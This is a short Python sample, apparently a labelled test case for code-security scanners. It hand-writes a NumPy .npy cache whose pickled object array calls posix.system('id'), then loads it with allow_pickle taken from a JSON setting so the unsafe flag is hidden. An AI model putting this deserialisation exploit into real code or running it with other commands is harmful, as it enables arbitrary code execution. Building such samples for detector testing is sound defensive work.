# class: value-flow | technique: numpy.load's allow_pickle comes from a JSON settings value, not a literal True; the cached .npy holds an object array whose pickle calls posix.system | effect: runs `id`
import json

import numpy as np

settings = json.loads('{"cache": "features.npy", "trusted": true}')


def write_cache(path):
    # an object-dtype .npy as an older pipeline stage left it
    body = b"cposix\nsystem\n(S'id'\ntR."
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + "\n"
    with open(path, "wb") as fh:
        fh.write(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + body)


write_cache(settings["cache"])
features = np.load(settings["cache"], allow_pickle=settings["trusted"])
print("loaded features:", features)
